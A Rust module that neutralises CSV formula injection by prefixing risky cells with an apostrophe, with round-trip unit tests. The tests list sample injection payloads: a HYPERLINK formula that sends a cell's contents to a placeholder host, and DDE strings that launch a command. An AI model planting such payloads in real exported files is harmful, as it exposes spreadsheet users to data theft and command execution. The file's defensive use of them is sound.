//! Cells that people open in a spreadsheet (privacy.md, "Files holding identifiable data";
//! OWASP's CSV injection guidance): a text cell starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return would be run as a formula by Excel, LibreOffice or Google Sheets, so it is
//! written with a leading apostrophe, which they show as text and never evaluate.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would run `cell` as a formula.
fn risky(cell: &str) -> bool {
    cell.starts_with(TRIGGERS) && cell.trim().parse::<f64>().is_err()
}

/// Whether `cell` is apostrophes (none or more) before a formula: what [`safe_cell`] guards,
/// so that a value that itself starts with `'=` survives writing and reading back.
fn guarded_shape(cell: &str) -> bool {
    risky(cell.trim_start_matches('\''))
}

/// `cell` as it is safe to write into a CSV meant for a spreadsheet. Plain numbers (`-3.5`)
/// are left alone: a spreadsheet reads them as numbers, never as formulas. A value that
/// already starts with apostrophes before a formula character gains one more, so reading it
/// back ([`unguard_cell`]) gives it exactly as it was.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    if guarded_shape(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Undoes [`safe_cell`] when a file crest wrote is read back: one leading apostrophe before
/// apostrophes and a formula character is dropped, anything else is kept as it is.
pub fn unguard_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if guarded_shape(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_everything_else_is_untouched() {
        for (raw, safe) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2,\"click\")",
                "'=HYPERLINK(\"http://x/?\"&A2,\"click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-3.5", "-3.5"),
            ("+44", "+44"),
            ("Smith-Jones", "Smith-Jones"),
            ("", ""),
            ("'quoted", "'quoted"),
            // A value that really starts with an apostrophe before a formula character.
            ("'=x", "''=x"),
            ("''+y", "'''+y"),
        ] {
            assert_eq!(safe_cell(raw), safe, "{raw:?}");
            assert_eq!(unguard_cell(&safe_cell(raw)), raw, "round trip {raw:?}");
        }
    }
}
